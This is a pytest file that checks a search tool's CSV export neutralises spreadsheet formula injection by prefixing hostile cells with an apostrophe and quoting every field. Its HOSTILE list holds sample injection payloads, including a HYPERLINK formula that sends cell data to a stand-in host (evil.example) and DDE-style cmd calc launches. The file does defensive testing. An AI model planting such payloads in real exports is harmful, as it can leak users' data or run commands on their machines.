"""CSV export: hostile cells reach a spreadsheet as text, never as formulas."""

from __future__ import annotations

import csv

import pytest

from index.export import write_csv
from index.model import Facets, Hit, SearchResult

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"点击查看")',
    "+86 355 1234567",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u3000=1+1",
]


def _result(value: str) -> SearchResult:
    hit = Hit(report=value, path="/x/" + value, title=value, institution=value, year=None,
              paragraph=3, kind="body", section=value, text=value, highlights=(),
              score=1.5, match="exact")
    return SearchResult(query=value, total=1, exact=1, hits=(hit,),
                        facets=Facets({}, {}))


@pytest.mark.parametrize("value", HOSTILE)
def test_no_cell_can_start_a_formula(tmp_path, value):
    out = tmp_path / "hits.csv"
    assert write_csv(out, [_result(value)]) == 1
    with out.open(encoding="utf-8-sig", newline="") as handle:
        header, row = list(csv.reader(handle))
    cells = dict(zip(header, row, strict=True))
    for column in ("query", "report", "title", "institution", "section", "text"):
        assert cells[column] == "'" + value  # neutralised, and still readable
    assert (cells["rank"], cells["paragraph"], cells["score"]) == ("1", "3", "1.5")


def test_every_cell_is_quoted_so_a_separator_cannot_start_a_new_cell(tmp_path):
    out = tmp_path / "hits.csv"
    write_csv(out, [_result("医院;=1+1,@A1")])
    line = out.read_text(encoding="utf-8-sig").splitlines()[1]
    assert line.startswith('"医院;=1+1,@A1",') and line.endswith('"医院;=1+1,@A1"')


@pytest.mark.parametrize("value", ["医院", "2025年", "a=b", "5-3", "", "'quoted"])
def test_ordinary_text_is_unchanged(value):
    from index.export import spreadsheet_text

    assert spreadsheet_text(value) == value
    assert spreadsheet_text(-5) == -5 and spreadsheet_text(1.5) == 1.5


def test_a_query_with_no_hit_is_one_row_with_count_zero(tmp_path):
    out = tmp_path / "hits.csv"
    empty = SearchResult(query="查无此句", total=0, exact=0, hits=(), facets=Facets({}, {}))
    assert write_csv(out, [_result("医院"), empty]) == 1
    with out.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [(r["query"], r["count"]) for r in rows] == [("医院", "1"), ("查无此句", "0")]
    assert rows[1]["report"] == rows[1]["text"] == rows[1]["rank"] == ""
